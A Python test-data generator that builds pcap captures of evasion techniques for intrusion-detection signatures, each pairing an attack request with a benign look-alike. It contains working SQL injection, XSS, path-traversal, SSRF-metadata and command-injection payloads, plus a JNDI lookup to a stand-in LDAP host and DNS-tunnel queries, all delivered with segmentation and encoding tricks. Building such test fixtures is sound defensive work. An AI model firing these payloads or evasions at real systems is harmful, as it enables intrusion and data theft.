#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""craft_attacks.py - crafted evasions of tests/data/crafted-attacks/ for the signature sets.

Usage:  /usr/bin/python3 tests/data/craft_attacks.py [OUTDIR]   (default: tests/data/crafted-attacks)
        /usr/bin/python3 tests/data/craft_attacks.py --check [DIR]
            regenerate into a temporary directory and compare byte for byte
            with DIR (default: tests/data/crafted-attacks); exit 1 on any
            difference, 77 when scapy is missing.

Each pcap holds one evasion technique: one TCP connection per HTTP request
(pipelined: one connection, two requests), the attack and its benign
look-alike side by side. The expectation travels in the request, as in the
real captures of capture-attacks.sh: `X-Bh-Expect: SET[,SET...]` or
`X-Bh-Expect: none`, always in a part of the head that is neither split
inside a literal nor retransmitted with other bytes. DNS scenarios have no
header to carry it: NAME.expect beside NAME.pcap lists `QNAME SETS`.
Checker: tests/golden/alerts_check.py.

What the receiver reads decides the expectation: the server's stack keeps
the first copy of bytes it already holds (craft.py's tcp-overlap-conflict
cases), so a retransmission with other bytes never changes what the
application sees, attack or not; that conflict is a stream anomaly, not an
alert. Encodings are expected to alert when a common server stack decodes
them into the attack (double percent-encoding for an application that
decodes again, IIS %u, `+` in a query); comment-glued keywords
(`UN/**/ION`) alert because an application that strips comments before
building its query turns them into the keyword.

Packets, timestamps and the pcap container come from craft.py and the HTTP
and DNS message builders from craft_l7.py (same directory; imported, not
modified): fixed times from 2026-01-01T00:00:00Z in 1 ms steps, fixed ISNs,
IP ids and MACs, client 10.0.0.1, server 10.0.0.2, HTTP on port 80, client
ports 47000 and up, DNS on 53.
"""

import base64
import filecmp
import os
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import craft  # noqa: E402  (exits 77 when scapy is missing)
import craft_l7  # noqa: E402
from craft import Scenario, Tcp, TH_ACK, TH_PSH  # noqa: E402
from craft_l7 import (req, resp, prng, tcp_dns, dname, dheader, dq, drr, dptr, ip4,  # noqa: E402
                      Q_FLAGS, R_FLAGS)

PA = TH_PSH | TH_ACK
HOST = b"shop.test"
UA = b"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"


class AttackScenario(Scenario):
    """A pcap of HTTP connections (expectations inside) and DNS queries
    (expectations in self.dns: qname -> sets, written to NAME.expect)."""

    def __init__(self, name, description):
        super().__init__(name, description)
        self.port = 47000
        self.dns = {}

    def next_port(self):
        self.port += 1
        return self.port - 1

    def write(self, outdir):
        craft.write_pcap(os.path.join(outdir, self.name + ".pcap"), self.linktype, self.records)
        if self.dns:
            with open(os.path.join(outdir, self.name + ".expect"), "w") as f:
                f.write("# %s.pcap: QNAME SETS (craft_attacks.py). %s\n" % (self.name, self.description))
                for name, sets in self.dns.items():
                    f.write("%s %s\n" % (name, sets))


def areq(expect, target, method=b"GET", extra=b"", body=b""):
    """A request whose X-Bh-Expect comes right after Host and User-Agent,
    before any field or body an evasion cuts or rewrites."""
    return req(method, target, HOST, ua=UA, extra=b"X-Bh-Expect: %s\r\n" % expect + extra, body=body)


def form(expect, target, body, extra=b""):
    return areq(expect, target, b"POST", extra=b"Content-Type: application/x-www-form-urlencoded\r\n"
                b"Content-Length: %d\r\n" % len(body) + extra, body=body)


def cuts_at(data, *marks):
    """Offsets inside data: for each (literal, k), k bytes into the literal's
    first occurrence (a cut exactly inside the signature literal)."""
    out = []
    for lit, k in marks:
        i = data.index(lit)
        out.append(i + k)
    return out


def connection(sc, data, cuts=(), order=None, responses=(b"ok\n",)):
    """One connection carrying data cut at the offsets in cuts, the pieces sent
    in the given order (default: in order), then the responses and a close."""
    t = Tcp(sc, cport=sc.next_port(), sport=80)
    t.handshake()
    base = t.nxt[0]
    bounds = [0] + sorted(cuts) + [len(data)]
    pieces = list(zip(bounds, bounds[1:]))
    for i in (order if order is not None else range(len(pieces))):
        a, b = pieces[i]
        t.send(0, PA, data[a:b], seq=base + a)
    t.nxt[0] = base + len(data)
    t.send(1, TH_ACK)
    t.send(1, PA, b"".join(resp(200, b"OK", r) for r in responses))
    t.send(0, TH_ACK)
    t.close()
    return t


def each(name, description, requests, cuts=None, order=None):
    """A scenario of one connection per request, each delivered the same way:
    cut at cuts(request) (default: one segment), pieces sent in order."""
    sc = AttackScenario(name, description)
    for data in requests:
        connection(sc, data, cuts(data) if cuts else (), order)
    return sc


# ================================================================= segmentation

def split_1byte():
    return each("split-1byte", "Every byte of the request in its own segment: a UNION-based "
                "sqli (sqli) and a search for 'union station' (none).",
                [areq(b"sqli", b"/product.php?id=1%20UNION%20SELECT%20password%20FROM%20users--%20-"),
                 areq(b"none", b"/search?q=union+station+opening+hours")],
                cuts=lambda d: range(1, len(d)))


def split_in_literal():
    sc = AttackScenario("split-in-literal", "Segments cut exactly inside the signature "
                        "literals: 'UNI|ON', 'SEL|ECT' (sqli); '${jn|di:' in a header (jndi); "
                        "'<scr|ipt' (xss); '169.254|.169.254' (ssrf-metadata); look-alikes cut "
                        "the same way: 'uni|on station', '${us|er.name}', '<scr|ipture>' (none).")
    cases = [
        (areq(b"sqli", b"/product.php?id=-1+UNION+SELECT+username,password+FROM+users--+-"),
         ((b"UNION", 3), (b"SELECT", 3))),
        (areq(b"jndi", b"/", extra=b"X-Api-Version: ${jndi:ldap://10.0.0.66:1389/a}\r\n"),
         ((b"${jndi", 4),)),
        (areq(b"xss", b"/search?q=%3Cscript%3Ealert(1)%3C/script%3E"), ((b"script", 3),)),
        (areq(b"ssrf-metadata", b"/fetch?url=http://169.254.169.254/latest/meta-data/"),
         ((b"169.254.169", 7),)),
        (areq(b"none", b"/search?q=union+station+select+menu"), ((b"union", 3), (b"select", 3))),
        (areq(b"none", b"/greeting", extra=b"X-Template: Hello ${user.name}\r\n"), ((b"${user", 4),)),
        (areq(b"none", b"/search?q=%3Cscripture%3E+reading+plan"), ((b"scripture", 3),)),
        (areq(b"none", b"/fetch?url=http://10.254.169.25/status"), ((b"254.169", 3),)),
    ]
    for data, marks in cases:
        connection(sc, data, cuts_at(data, *marks))
    return sc


def out_of_order():
    sc = AttackScenario("out-of-order", "The request in segments sent out of order: the "
                        "second half first, then the first (cut inside '<script' and inside "
                        "'UNION'), and 4 segments sent 3,1,4,2; xss and sqli attacks, and "
                        "look-alikes sent the same ways (none).")
    x = areq(b"xss", b"/search?q=<script>alert(document.cookie)</script>")
    s = areq(b"sqli", b"/product.php?id=1+UNION+ALL+SELECT+NULL,version()--+-")
    xb = areq(b"none", b"/search?q=<b>script</b>+writing")
    sb = areq(b"none", b"/search?q=1+union+all+stations")
    for data, lit in ((x, b"<script"), (xb, b"script"), (s, b"UNION"), (sb, b"union")):
        connection(sc, data, cuts_at(data, (lit, 3)), order=(1, 0))
    for data, lit in ((s, b"SELECT"), (sb, b"stations")):
        line = data.index(b"\r\n")
        connection(sc, data, [5, data.index(lit) + 2, line], order=(2, 0, 3, 1))
    return sc


def retrans(name, acked):
    when = "after the server ACKed it" if acked else "before the server ACKs anything"
    sc = AttackScenario(name, "A request whose query value (same length both times) is sent, "
                        "then %s sent again with other bytes. The receiver keeps the first "
                        "copy (craft.py's overlap cases), so the first decides: attack first, "
                        "benign copy second (sqli); benign first, attack copy second (none)."
                        % when)
    attack = b"id=1%27+OR+%271%27%3D%271"
    benign = b"id=1042%2Bspecial%2Boffer"
    assert len(attack) == len(benign)
    for first, second, expect in ((attack, benign, b"sqli"), (benign, attack, b"none")):
        head = areq(expect, b"/product.php", b"POST",
                    extra=b"Content-Type: application/x-www-form-urlencoded\r\n"
                    b"Content-Length: %d\r\n" % len(first))
        t = Tcp(sc, cport=sc.next_port(), sport=80)
        t.handshake()
        t.send(0, PA, head)
        base = t.nxt[0]
        t.send(0, PA, first)
        if acked:
            t.send(1, TH_ACK)
        t.send(0, PA, second, seq=base)
        if not acked:
            t.send(1, TH_ACK)
        t.send(1, PA, resp(200, b"OK", b"ok\n"))
        t.send(0, TH_ACK)
        t.close()
    return sc


# ================================================================= encodings

def encoding_double():
    return each("encoding-double", "Double percent-encoding: %2527 is %27 after one "
                "decoding and a quote after two (sqli); %252e%252e%252f (traversal); "
                "look-alikes O%2527Brien and a double-encoded path without dots (none).",
                [areq(b"sqli", b"/product.php?id=1%2527%2520OR%2520%25271%2527%253D%25271"),
                 areq(b"traversal", b"/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
                 areq(b"none", b"/customers?name=O%2527Brien"),
                 areq(b"none", b"/download?file=docs%252fguide%252fintro.md")])


def encoding_mixed():
    return each("encoding-mixed", "IIS %u escapes (%u0027 a quote, %u002e a dot), "
                "single %2e%2e%2f, mixed-case hex (%2E%2e%2F) and a half-encoded "
                "'..%2f' (traversal, sqli); look-alikes with %u escapes and encoded "
                "slashes but no attack (none).",
                [areq(b"sqli", b"/product.php?id=1%u0027%20OR%20%u00271%u0027%3D%u00271"),
                 areq(b"traversal", b"/download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
                 areq(b"traversal", b"/download?file=%2E%2e%2F%2e%2E%2fetc%2Fshadow"),
                 areq(b"traversal", b"/download?file=..%2f..%2f..%2fetc%2fhosts"),
                 areq(b"traversal", b"/static/%u002e%u002e/%u002e%u002e/etc/passwd"),
                 areq(b"none", b"/search?q=rock%u0027n%u0027roll"),
                 areq(b"none", b"/download?file=reports%2f2024%2eq3%2epdf")])


def plus_vs_pct20():
    return each("plus-vs-pct20", "The same UNION payload with '+' for spaces "
                "(query-string form encoding) and with %20 (sqli each); searches with "
                "'+' and %20 (none).",
                [areq(b"sqli", b"/product.php?id=1+UNION+SELECT+password+FROM+users--+-"),
                 areq(b"sqli", b"/product.php?id=1%20UNION%20SELECT%20password%20FROM%20users--%20-"),
                 areq(b"none", b"/search?q=drop+in+centre+opening+hours"),
                 areq(b"none", b"/search?q=select%20a%20union%20rep")])


def case_mixing():
    return each("case-mixing", "Mixed-case keywords: UnIoN SeLeCt (sqli), "
                "<ScRiPt> and JaVaScRiPt: (xss), ${JnDi:LdAp:...} (jndi), OnErRoR= "
                "(xss); a mixed-case title with the same words (none).",
                [areq(b"sqli", b"/product.php?id=-1+UnIoN+SeLeCt+username,password+FrOm+users--+-"),
                 areq(b"xss", b"/search?q=%3CScRiPt%3Ealert(1)%3C/sCrIpT%3E"),
                 areq(b"xss", b"/login?next=JaVaScRiPt:alert(document.domain)"),
                 areq(b"xss", b"/profile?name=%3Cimg+src=x+OnErRoR=alert(1)%3E"),
                 areq(b"jndi", b"/", extra=b"X-Forwarded-For: ${JnDi:LdAp://10.0.0.66/a}\r\n"),
                 areq(b"none", b"/search?q=UnIoN+StAtIoN+ScRiPt+FeStIvAl")])


def comment_glued():
    return each("comment-glued", "SQL comments inside and between keywords: "
                "UN/**/ION SEL/**/ECT (for an application that strips comments), "
                "UNION/**/SELECT (comment as space), /*!50000UNION*/ (MySQL "
                "versioned comment): sqli each; a comment in prose (none).",
                [areq(b"sqli", b"/product.php?id=-1+UN/**/ION+SEL/**/ECT+password+FROM+users--+-"),
                 areq(b"sqli", b"/product.php?id=-1/**/UNION/**/SELECT/**/password/**/FROM/**/users"),
                 areq(b"sqli", b"/product.php?id=-1+/*!50000UNION*/+/*!50000SELECT*/+password+FROM+users"),
                 areq(b"none", b"/search?q=see+/*+footnote+*/+in+chapter+2")])


# ================================================================= body, pipeline, cookie

def chunked_body():
    sc = AttackScenario("chunked-body", "A chunked form POST whose payload is split across "
                        "chunks inside 'UNION' and 'SELECT' (sqli); the same framing around "
                        "'union station' (none).")

    def chunked(parts):
        return b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in parts) + b"0\r\n\r\n"

    for expect, parts in ((b"sqli", (b"user=bob&id=-1' UNI", b"ON SEL", b"ECT password FROM users-- -")),
                          (b"none", (b"user=bob&q=meet at uni", b"on sta", b"tion at noon"))):
        data = areq(expect, b"/search", b"POST",
                    extra=b"Content-Type: application/x-www-form-urlencoded\r\n"
                    b"Transfer-Encoding: chunked\r\n", body=chunked(parts))
        connection(sc, data, cuts_at(data, (b"\r\n\r\n", 4)))   # the head, then the body
    return sc


def pipelined():
    sc = AttackScenario("pipelined", "Two requests in one segment on one connection: a benign "
                        "GET (none) then an attack (sqli), answered in order; and a pipeline of "
                        "two benign requests (none).")
    for second in (areq(b"sqli", b"/product.php?id=1'+AND+1=1+UNION+SELECT+NULL,NULL--+-"),
                   areq(b"none", b"/search?q=union+jack+flag")):
        connection(sc, areq(b"none", b"/index.html") + second, responses=(b"index\n", b"ok\n"))
    return sc


def cookie():
    return each("cookie", "Attacks in a cookie value, raw and percent-encoded (sqli); "
                "cookies with apostrophes and = in base64 (none).",
                [areq(b"sqli", b"/cart", extra=b"Cookie: session=4e1f0a; pref=1' UNION SELECT password FROM users-- -\r\n"),
                 areq(b"sqli", b"/cart", extra=b"Cookie: session=4e1f0a; cart_id=1%27%20OR%20%271%27%3D%271\r\n"),
                 areq(b"none", b"/cart", extra=b"Cookie: session=4e1f0a; name=O'Brien; theme=dark\r\n"),
                 areq(b"none", b"/cart", extra=b"Cookie: session=4e1f0a; prefs=eyJ0aGVtZSI6ImRhcmsifQ==\r\n")])


def form_body():
    return each("form-body", "application/x-www-form-urlencoded POST bodies: a login "
                "bypass (sqli), a stored-xss comment (xss), a command in a field "
                "(cmdi); a comment with the words select, union, drop and an "
                "apostrophe (none).",
                [form(b"sqli", b"/login", b"username=admin%27--+-&password=x"),
                 form(b"xss", b"/comment", b"comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E&post=7"),
                 form(b"cmdi", b"/api/v1/tools/ping", b"host=127.0.0.1%3Bid&count=1"),
                 form(b"none", b"/comment", b"comment=I%27d+select+the+union+option%2C+then+drop+it&post=7")])


# ================================================================= DNS

def b32(tag, n):
    return base64.b32encode(prng(tag, n)).decode().rstrip("=").lower()


def dns_pointer_loop():
    sc = AttackScenario("dns-pointer-loop", "UDP: the answer to loop.shop.test names its "
                        "record with a compression pointer to itself (dns-anomaly); "
                        "ok.shop.test is answered normally (none).")
    u = craft_l7.Udp(sc, sc.next_port(), 53, "dns")
    for mid, name in ((0xa001, "loop.shop.test"), (0xa002, "ok.shop.test")):
        qwire = dq(dname(name))
        u.send(0, dheader(mid, Q_FLAGS, 1, 0) + qwire)
        owner = dptr(12 + len(qwire)) if name.startswith("loop") else dptr(12)
        u.send(1, dheader(mid, R_FLAGS, 1, 1) + qwire + drr(owner, 1, 60, ip4("10.99.3.10")))
        sc.dns[name] = "dns-anomaly" if name.startswith("loop") else "none"
    return sc


def dns_tunnel_tcp_split():
    sc = AttackScenario("dns-tunnel-tcp-split", "DNS over TCP: a TXT query for base32 data in "
                        "63-byte labels under tunnel.test, the message cut inside the length "
                        "prefix and inside the first label (dns-tunnel); a normal SRV query cut "
                        "the same way (none).")
    data = b32(b"tcp-split", 78)
    tunnel = "%s.%s.tunnel.test" % (data[:63], data[63:])
    for mid, name, qtype in ((0xb001, tunnel, 16), (0xb002, "_http._tcp.shop.test", 33)):
        msg = tcp_dns(dheader(mid, Q_FLAGS, 1, 0) + dq(dname(name), qtype))
        t = Tcp(sc, cport=sc.next_port(), sport=53)
        t.handshake()
        for a, b in ((0, 1), (1, 20), (20, len(msg))):
            t.send(0, PA, msg[a:b])
        t.send(1, TH_ACK)
        t.send(1, PA, tcp_dns(dheader(mid, R_FLAGS | 3, 1, 0) + dq(dname(name), qtype)))
        t.send(0, TH_ACK)
        t.close()
        sc.dns[name] = "dns-tunnel" if mid == 0xb001 else "none"
    return sc


def dns_tunnel_case():
    sc = AttackScenario("dns-tunnel-case", "UDP: NULL and TXT queries for hex and base32 "
                        "data in mixed case (DNS 0x20 style; names compare lower-cased): "
                        "dns-tunnel; a mixed-case www.shop.test (none).")
    hexname = prng(b"case-hex", 30).hex()
    b32name = b32(b"case-b32", 35)
    names = (("".join(c.upper() if i % 3 == 0 else c for i, c in enumerate(hexname)) + ".Tunnel.Test", 10),
             ("".join(c.upper() if i % 2 else c for i, c in enumerate(b32name)) + ".t.TUNNEL.test", 16),
             ("WwW.ShOp.TeSt", 1))
    # One source port per query, as stub resolvers do: on one flow, the
    # second tunnel query's alert would be held back by flood control (one
    # alert per sid and flow).
    for mid, (name, qtype) in enumerate(names, 0xc001):
        u = craft_l7.Udp(sc, sc.next_port(), 53, "dns")
        u.send(0, dheader(mid, Q_FLAGS, 1, 0) + dq(dname(name), qtype))
        u.send(1, dheader(mid, R_FLAGS | 3, 1, 0) + dq(dname(name), qtype))
        sc.dns[name.lower()] = "none" if qtype == 1 else "dns-tunnel"
    return sc


# ================================================================= main

def scenarios():
    return [split_1byte(), split_in_literal(), out_of_order(),
            retrans("retrans-acked", True), retrans("retrans-unacked", False),
            encoding_double(), encoding_mixed(), plus_vs_pct20(), case_mixing(), comment_glued(),
            chunked_body(), pipelined(), cookie(), form_body(),
            dns_pointer_loop(), dns_tunnel_tcp_split(), dns_tunnel_case()]


def generate(outdir):
    os.makedirs(outdir, exist_ok=True)
    for sc in scenarios():
        sc.write(outdir)


def differences(ref):
    """Files of ref that a fresh generation does not reproduce byte for byte."""
    with tempfile.TemporaryDirectory() as tmp:
        generate(tmp)
        new = set(os.listdir(tmp))
        old = {f for f in os.listdir(ref) if f.endswith((".pcap", ".expect"))}
        return sorted((new ^ old) | {f for f in new & old if not filecmp.cmp(
            os.path.join(tmp, f), os.path.join(ref, f), shallow=False)})


def main(argv):
    default = os.path.join(HERE, "crafted-attacks")
    if argv[1:2] == ["--check"]:
        ref = argv[2] if len(argv) > 2 else default
        bad = differences(ref)
        for f in bad:
            print("differs or missing: %s" % f)
        print("crafted-attacks: %s" % ("%d files differ" % len(bad) if bad else "identical"))
        return 1 if bad else 0
    outdir = argv[1] if len(argv) > 1 else default
    generate(outdir)
    print("wrote %d scenarios to %s" % (len(scenarios()), outdir))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
